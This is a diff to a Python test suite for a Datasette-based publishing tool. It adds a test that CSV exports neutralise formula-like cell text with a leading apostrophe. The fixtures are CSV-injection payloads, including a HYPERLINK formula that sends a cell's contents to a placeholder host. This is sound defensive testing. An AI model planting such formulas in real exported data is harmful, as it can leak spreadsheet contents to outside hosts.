@@ -414,7 +414,9 @@ def test_server_json_reports(server):
     databases = fetch_json(f"{server}/-/databases.json")
     assert [(d["name"], d["is_mutable"]) for d in databases] == [(DATABASE, False)]
     plugins = fetch_json(f"{server}/-/plugins.json")  # nianbao's limits alone: no plugin that writes
-    assert [(p["name"], p["hooks"]) for p in plugins] == [("nianbao.publish.datasette_limits", ["prepare_connection"])]
+    assert [(p["name"], p["hooks"]) for p in plugins] == [
+        ("nianbao.publish.datasette_limits", ["prepare_connection", "startup"])
+    ]
     assert fetch_json(f"{server}/-/settings.json")["sql_time_limit_ms"] == 1500
 
 
@@ -597,3 +599,36 @@ def test_stopping_nianbao_serve_stops_datasette(published, signum):
         assert not Path(f"/proc/{datasette_pid}").exists()
         with pytest.raises(OSError):
             urllib.request.urlopen(f"{base}/-/versions.json", timeout=2)
+
+
+FORMULAS = {
+    "narratives": ("text", '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'),
+    "reports": ("title", "+SUM(1,2)"),
+}
+
+
+def test_served_csv_guards_spreadsheet_formulas(tmp_path):
+    """The published `reports` and `narratives` as CSV from Datasette: a text that starts like a
+    formula gets the leading apostrophe the site's CSVs give it; the JSON keeps it exact."""
+    files = {sample_path(n).name: sample_path(n).read_bytes() for n in SAMPLE_NAMES[:2]}
+    site = publish_dir(tmp_path, files)
+    with sqlite3.connect(site / DATABASE_FILE) as conn:
+        for table, (column, text) in FORMULAS.items():
+            conn.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = (SELECT min(rowid) FROM {table})", [text])
+        conn.execute("UPDATE reports SET organ = '@SUM(A1)', website = '-2+3' WHERE id = 2")
+    with serving(site, tmp_path / "datasette.log") as base:
+        csv_rows = {
+            table: list(csv.DictReader(io.StringIO(fetch(f"{base}/{DATABASE}.csv?" + urlencode({"sql": sql})))))
+            for table, sql in [
+                ("narratives", "select * from narratives order by rowid"),
+                ("reports", "select * from reports order by id"),
+            ]
+        }
+        table_csv = fetch(f"{base}/{DATABASE}/reports.csv?_sort=id")
+        exact = fetch_json(f"{base}/{DATABASE}/reports.json?_shape=array&_sort=id")
+    for table, (column, text) in FORMULAS.items():
+        assert csv_rows[table][0][column] == "'" + text
+    assert (csv_rows["reports"][1]["organ"], csv_rows["reports"][1]["website"]) == ("'@SUM(A1)", "'-2+3")
+    assert list(csv.DictReader(io.StringIO(table_csv)))[1]["organ"] == "'@SUM(A1)"  # a table's page as CSV too
+    assert (exact[0]["title"], exact[1]["organ"], exact[1]["website"]) == ("+SUM(1,2)", "@SUM(A1)", "-2+3")
+    assert csv_rows["reports"][0]["year"] == "2024"  # numbers as they are
